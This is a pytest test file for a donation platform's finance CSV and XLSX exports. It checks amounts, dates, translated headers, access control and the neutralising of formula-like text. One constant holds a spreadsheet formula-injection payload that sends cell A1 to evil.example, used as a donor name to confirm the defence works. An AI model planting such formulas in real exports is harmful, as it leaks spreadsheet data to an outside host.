"""Finance exports (issue 15): CSV and XLSX opened as a spreadsheet program would, amounts in
yuan as decimals, dates in site time, headers in the officer's language, formula-looking text
neutralised, finance only, a bad range refused clearly, and a bounded number of queries."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from wagtail.users.models import UserProfile

from campaigns.site_time import site_today
from payments.exports.cells import neutralised
from payments.gateway.connect_fake import FakeConnectGateway
from payments.reconciliation.services import reconciliation_run
from tests.builders import gift, paid_release, refund
from tests.factories import PartnerFactory
from tests.verification.factories import BeneficiaryFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(autouse=True)
def _private_storage(settings, tmp_path):
    settings.PRIVATE_STORAGE_ROOT = tmp_path / "private"


def _range(days_before: int = 1, days_after: int = 1) -> dict[str, str]:
    today = site_today()
    return {
        "start": (today - timedelta(days=days_before)).isoformat(),
        "end": (today + timedelta(days=days_after)).isoformat(),
    }


def _login(client, user, language: str = "en"):
    """Signed in as ``user`` whose admin language (Wagtail's preference) is ``language``."""
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = language
    profile.save()
    client.force_login(user)
    return client


def _get(client, user, key: str, fmt: str, params: dict | None = None, language: str = "en"):
    _login(client, user, language)
    return client.get(reverse("finance_export", args=[key, fmt]), params or _range())


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content[:500]
    assert response.streaming
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def _xlsx_rows(response) -> list[tuple]:
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return list(workbook.active.iter_rows(values_only=True)), workbook.active


def test_neutralised_prefixes_formula_starts_and_leaves_other_text():
    for text in ("=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert neutralised(text) == "'" + text
    for text in ("1+1", "Alice", "", "江华县人民医院", "'already"):
        assert neutralised(text) == text


def test_gifts_csv_has_headers_amounts_in_yuan_site_time_and_neutralised_names(
    client, finance_officer, campaign
):
    # given a gift from a donor whose display name is a formula, and one refunded in part
    evil = gift(campaign, 123_450, display_name=HYPERLINK)
    plain = gift(campaign, 10_000, display_name="Li Wei", email="li@example.com")
    refund(plain, 2_500)
    # when finance exports the gifts of the range as CSV
    rows = _csv_rows(_get(client, finance_officer, "gifts", "csv"))
    # then the headers, one row per gift, yuan amounts as exact decimals and the name neutralised
    assert rows[0][:5] == [
        "Gift",
        "Receipt number",
        "Received at (Asia/Shanghai)",
        "Campaign",
        "Donor's name as typed",
    ]
    header = rows[0]
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows[1:]}
    assert set(by_id) == {evil.pk, plain.pk}
    assert by_id[evil.pk]["Donor's name as typed"] == "'" + HYPERLINK
    assert by_id[evil.pk]["Amount"] == "1234.50"
    assert by_id[plain.pk]["Amount"] == "100.00" and by_id[plain.pk]["Refunded"] == "25.00"
    assert by_id[plain.pk]["Currency"] == "CNY"
    # the receipt number the donor's mail, page and statement show (ADR 0412)
    assert by_id[plain.pk]["Receipt number"] == plain.receipt_number
    local = timezone.localtime(evil.captured_at).strftime("%Y-%m-%d %H:%M:%S")
    assert by_id[evil.pk]["Received at (Asia/Shanghai)"] == local
    assert all(not row[i].startswith(("=", "+", "@")) for row in rows[1:] for i in range(len(row)))


def test_headers_and_labels_follow_the_officers_language(client, finance_officer, campaign):
    donation = gift(campaign, 10_000)
    rows = _csv_rows(_get(client, finance_officer, "gifts", "csv", language="zh-hans"))
    assert rows[0][:3] == ["捐款", "收据编号", "到账时间（Asia/Shanghai）"]
    assert "金额" in rows[0]
    with translation.override("zh-hans"):
        status = donation.get_status_display()
    assert rows[1][rows[0].index("状态")] == status != "Received"
    assert rows[1][rows[0].index("匿名")] in ("否", "是")


def test_payouts_xlsx_has_numeric_yuan_amounts_datetimes_and_a_neutralised_partner(
    client, finance_officer, verifier
):
    # given a release paid to a partner named "+1"
    beneficiary = BeneficiaryFactory(campaign__min_donation_minor=1000)
    gift(beneficiary.campaign, 500_000)
    release = paid_release(beneficiary=beneficiary, partner=PartnerFactory(name="+1"), verifier=verifier,
                           finance_officer=finance_officer, minor=300_050)  # fmt: skip
    # when finance exports payouts and releases as XLSX
    rows, sheet = _xlsx_rows(_get(client, finance_officer, "payouts", "xlsx"))
    header = rows[0]
    assert header[:2] == ("Release", "Paid at (Asia/Shanghai)")
    [row] = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    # then the partner's name is text, neutralised, and the amount a number of yuan
    assert row["Partner"] == "'+1"
    assert sheet.cell(row=2, column=header.index("Partner") + 1).data_type == "s"
    assert row["Amount"] == pytest.approx(3000.50) and not isinstance(row["Amount"], str)
    assert sheet.cell(row=2, column=header.index("Amount") + 1).number_format == "0.00"
    assert row["Bank transfer reference"] == f"BANK-{release.pk}"
    release.refresh_from_db()
    assert row["Paid at (Asia/Shanghai)"] == timezone.localtime(release.paid_at).replace(
        tzinfo=None, microsecond=0
    )
    releases, _sheet = _xlsx_rows(_get(client, finance_officer, "releases", "xlsx"))
    assert [r[0] for r in releases[1:]] == [release.pk]


def test_no_beneficiary_id_number_address_or_phone_in_any_export(client, finance_officer, verifier):
    beneficiary = BeneficiaryFactory(campaign__min_donation_minor=1000)
    person = beneficiary.registry_person
    gift(beneficiary.campaign, 500_000)
    paid_release(beneficiary=beneficiary, partner=PartnerFactory(), verifier=verifier,
                 finance_officer=finance_officer)  # fmt: skip
    secrets = [person.id_number, person.phone, beneficiary.county]
    for key in ("gifts", "refunds", "releases", "payouts", "reconciliation"):
        body = b"".join(_get(client, finance_officer, key, "csv").streaming_content).decode("utf-8-sig")
        assert not any(secret and secret in body for secret in secrets), key


def test_refunds_and_reconciliation_items_export(client, finance_officer, campaign, settings):
    settings.RECONCILIATION_GRACE = timedelta(0)
    donation = gift(campaign, 20_000)
    refund(donation, 5_000)
    gateway = FakeConnectGateway()
    from campaigns.money import Money

    gateway.fund_platform(Money("70", "CNY"), source="ch_unknown")
    reconciliation_run(gateway=gateway, since=timezone.now() - timedelta(hours=1))

    refunds = _csv_rows(_get(client, finance_officer, "refunds", "csv"))
    [row] = [dict(zip(refunds[0], r, strict=True)) for r in refunds[1:]]
    assert (row["Gift"], row["Amount"], row["Status"]) == (str(donation.pk), "50.00", "Refunded")
    note = donation.refunds.get()
    assert (row["Credit note"], row["Corrects receipt"]) == (note.credit_note_number, donation.receipt_number)

    items = _csv_rows(_get(client, finance_officer, "reconciliation", "csv"))
    found = {(r[items[0].index("Note")], r[items[0].index("Amount")]) for r in items[1:]}
    assert ("no ledger entry", "70.00") in found


def test_rows_outside_the_range_are_left_out(client, finance_officer, campaign):
    gift(campaign, 10_000)
    tomorrow = (site_today() + timedelta(days=1)).isoformat()
    rows = _csv_rows(_get(client, finance_officer, "gifts", "csv", {"start": tomorrow, "end": tomorrow}))
    assert len(rows) == 1  # headers only


# Marked: the staff fixture is asked for by name inside the test, so pytest-django would not know it
# needs the database and could order it after a transactional test that emptied the staff groups.
@pytest.mark.django_db
@pytest.mark.parametrize("role", ["editor", "verifier"])
def test_other_staff_are_refused(client, request, role):
    user = request.getfixturevalue(role)
    assert _get(client, user, "gifts", "csv").status_code == 403
    assert _login(client, user).get(reverse("finance_exports")).status_code == 403


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get(reverse("finance_export", args=["gifts", "csv"]), _range())
    assert response.status_code == 302 and "login" in response["Location"]


def test_a_superuser_may_export_and_the_page_is_in_the_admin_menu(client, finance_officer, django_user_model):
    admin = django_user_model.objects.create_superuser("boss", password="pw")
    assert _get(client, admin, "gifts", "csv").status_code == 200
    page = _login(client, finance_officer).get(reverse("finance_exports"))
    assert page.status_code == 200
    assert reverse("finance_export", args=["payouts", "xlsx"]) in page.content.decode()
    menu = client.get(reverse("wagtailadmin_home")).content.decode()
    assert reverse("finance_exports") in menu


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"start": "2026-03-01", "end": "2026-02-01"}, "The end date is before the start date."),
        ({"start": "yesterday", "end": "2026-02-01"}, "Enter a valid date."),
        ({"end": "2026-02-01"}, "This field is required."),
        ({"start": "2000-01-01", "end": "2026-02-01"}, "Export at most 1098 days at a time."),
    ],
)
def test_a_bad_range_is_answered_400_with_a_clear_message(client, finance_officer, params, message):
    response = _get(client, finance_officer, "gifts", "csv", params)
    assert response.status_code == 400
    assert message in response.content.decode()


def test_unknown_export_or_format_is_404(client, finance_officer):
    assert _get(client, finance_officer, "donors", "csv").status_code == 404
    assert _get(client, finance_officer, "gifts", "pdf").status_code == 404


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_large_export_runs_the_same_bounded_number_of_queries(
    client, finance_officer, campaign, django_assert_max_num_queries, fmt
):
    _login(client, finance_officer)
    url = reverse("finance_export", args=["gifts", fmt])

    def export_queries() -> tuple[int, bytes]:
        with CaptureQueriesContext(connection) as queries:
            body = b"".join(client.get(url, _range()).streaming_content)
        return len(queries), body

    gift(campaign, 10_000)
    few, _body = export_queries()
    for i in range(24):
        gift(campaign, 10_000 + i, display_name=f"-{i}")
    with django_assert_max_num_queries(few):
        _count, body = export_queries()
    if fmt == "csv":
        assert body.decode("utf-8-sig").count("\n") == 26  # headers and 25 gifts
    assert few <= 8


def test_xlsx_drops_control_characters_and_still_neutralises_what_remains(client, finance_officer, campaign):
    # a name that only starts with "=" once the control character XML cannot hold is removed
    gift(campaign, 10_000, display_name="\x07=1+1")
    rows, sheet = _xlsx_rows(_get(client, finance_officer, "gifts", "xlsx"))
    column = rows[0].index("Donor's name as typed") + 1
    assert sheet.cell(row=2, column=column).value == "'=1+1"
    assert sheet.cell(row=2, column=column).data_type == "s"
